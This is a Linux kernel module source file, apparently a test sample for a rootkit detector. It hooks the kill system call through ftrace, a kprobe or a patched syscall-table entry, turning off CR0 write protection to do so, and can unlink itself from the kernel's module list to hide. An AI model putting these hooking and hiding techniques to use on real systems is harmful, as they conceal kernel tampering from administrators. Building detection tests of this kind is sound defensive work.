// SPDX-License-Identifier: GPL-2.0 OR Apache-2.0
/*
 * What a guest must not get away with: hooks a system call, as `how` says, and hides this module.
 *   ftrace  a tracer that may redirect __x64_sys_kill
 *   kprobe  a probe on it
 *   table   the entry of sys_call_table at `table` (its address, from /proc/kallsyms)
 * With `hidden`, the module is taken off the list of modules and stays.
 */
#include <asm/special_insns.h>
#include <linux/ftrace.h>
#include <linux/kprobes.h>
#include <linux/module.h>
#include <linux/string.h>

#define SYSCALL "__x64_sys_kill"
#define SYSCALL_NUMBER 62

static char *how = "ftrace";
module_param(how, charp, 0);
static unsigned long table;
module_param(table, ulong, 0);
static bool hidden;
module_param(hidden, bool, 0);

static unsigned long original;

static void notrace see_call(unsigned long ip, unsigned long parent, struct ftrace_ops *ops,
			     struct ftrace_regs *regs)
{
}

static int see_probe(struct kprobe *probe, struct pt_regs *regs)
{
	return 0;
}

static struct ftrace_ops tracer = { .func = see_call, .flags = FTRACE_OPS_FL_SAVE_REGS | FTRACE_OPS_FL_IPMODIFY };
static struct kprobe probe = { .symbol_name = SYSCALL, .pre_handler = see_probe };

static long refuse(const struct pt_regs *regs)
{
	return -EPERM;
}

/* The kernel refuses to clear the bit that protects read-only pages, so a plain move does. */
static void write_protected(unsigned long *place, unsigned long value)
{
	unsigned long cr0 = read_cr0(), open = cr0 & ~X86_CR0_WP;

	asm volatile("mov %0, %%cr0" : : "r"(open) : "memory");
	WRITE_ONCE(*place, value);
	asm volatile("mov %0, %%cr0" : : "r"(cr0) : "memory");
}

static int __init hook(void)
{
	int error = -EINVAL;

	if (!strcmp(how, "ftrace")) {
		error = ftrace_set_filter(&tracer, SYSCALL, strlen(SYSCALL), 0);
		if (!error)
			error = register_ftrace_function(&tracer);
	} else if (!strcmp(how, "kprobe")) {
		error = register_kprobe(&probe);
	} else if (!strcmp(how, "table") && table) {
		unsigned long *entry = (unsigned long *)table + SYSCALL_NUMBER;

		original = *entry;
		write_protected(entry, (unsigned long)refuse);
		error = 0;
	}
	if (!error && hidden)
		list_del_init(&THIS_MODULE->list);
	return error;
}

static void __exit unhook(void)
{
	if (!strcmp(how, "ftrace"))
		unregister_ftrace_function(&tracer);
	else if (!strcmp(how, "kprobe"))
		unregister_kprobe(&probe);
	else
		write_protected((unsigned long *)table + SYSCALL_NUMBER, original);
}

module_init(hook);
module_exit(unhook);
MODULE_DESCRIPTION("Hooks a system call, to be found");
MODULE_LICENSE("GPL");
